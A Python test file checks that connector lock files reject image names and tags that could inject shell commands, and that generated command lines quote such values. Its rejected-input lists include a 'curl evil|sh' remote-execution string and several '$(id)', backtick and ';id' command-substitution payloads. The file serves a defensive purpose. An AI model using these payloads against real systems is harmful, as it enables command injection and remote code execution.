"""The image and the tag of a lock, which stand in lines to type: what no image can be called is no lock."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from infra.airbyte.discover.by_image import way_by_image
from infra.base.errors import UserError
from infra.lake.connectors.definitions import lock_of
from infra.lake.connectors.lock import ConnectorLock, read_locks
from infra.lake.model.load import load_lake
from tests.support.lakes import MINIMAL, REPOSITORY, run, write_lake

FILE = "dag/connectors/source-faker.json"
FAKER = json.loads((REPOSITORY / FILE).read_text("utf-8"))
CURE = "    write it again: lakeform lock source-faker"
NO_IMAGES = ["a/b; curl evil|sh #", "a/$(id)", "a/`id`", "-v/x", "airbyte/Source", "a//b", "a/b:1.0", "", "a/b\n"]
NO_TAGS = ["1.0$(id)", "1;id", "-1", ".1", "1 0", "", "a" * 129, "1.0\n"]


def lake_with(folder: Path, **changed: str) -> Path:
    return write_lake(folder, {**MINIMAL, FILE: json.dumps({**FAKER, **changed}, indent=2)})


@pytest.mark.parametrize(
    ("key", "text", "what"),
    [*(("image", text, "name") for text in NO_IMAGES), *(("tag", text, "tag") for text in NO_TAGS)],
)
def test_what_no_image_can_be_called_is_refused_with_its_place(tmp_path: Path, key: str, text: str, what: str) -> None:
    result = run(lake_with(tmp_path, **{key: text}), "check")

    line = next(number for number, one in enumerate(json.dumps(FAKER, indent=2).splitlines(), 1) if f'"{key}":' in one)
    place, example = f"{FILE}:{line}:{6 + len(key) + 1}", "1.0.0" if key == "tag" else "airbyte/source-x"
    shown = text.replace("\n", r"\n")
    said = f'{place}  lock-invalid  {key}: "{shown}" is not the {what} of an image, such as {example}'
    assert result.code == 1
    assert result.out.splitlines()[:2] == [said, CURE]


@pytest.mark.parametrize(
    "image",
    [
        "airbyte/source-x",
        "registry.example.com:5000/acme/source-x",
        "localhost/a__b/c-d.e",
        "source-acme",
        "source-Acme",
    ],
)
def test_the_names_that_an_image_has_are_taken(tmp_path: Path, image: str) -> None:
    locks, problems = read_locks(lake_with(tmp_path, image=image, tag="6.2.24-rc.1_dev"))

    assert (locks["source-faker"].image, problems) == (image, [])


@pytest.mark.parametrize(("key", "text"), [("dockerRepository", "a;id/source-x"), ("dockerImageTag", "1.0$(id)")])
def test_a_registry_with_such_a_name_gives_no_lock(key: str, text: str) -> None:
    spec = {"connectionSpecification": {"type": "object"}}
    entry = {"dockerRepository": "airbyte/source-x", "dockerImageTag": "1.0.0", "spec": spec}
    entry["sourceDefinitionId"] = FAKER["definition_id"]

    with pytest.raises(UserError, match=r"the registry's entry for source-x is broken: (image|tag)"):
        lock_of({**entry, key: text})


def test_the_line_to_type_is_quoted_whatever_the_lock_holds(tmp_path: Path) -> None:
    [stack] = load_lake(write_lake(tmp_path, MINIMAL)).model.stacks.values()
    source = stack.sources["faker"]
    lock = ConnectorLock.model_construct(**{**FAKER, "image": "a/b; id #", "tag": "1$(id)"})

    assert " 'a/b; id #:1$(id)' discover " in way_by_image(source, lock)
    assert " --connector-version '1$(id)'\n" in way_by_image(source, lock)
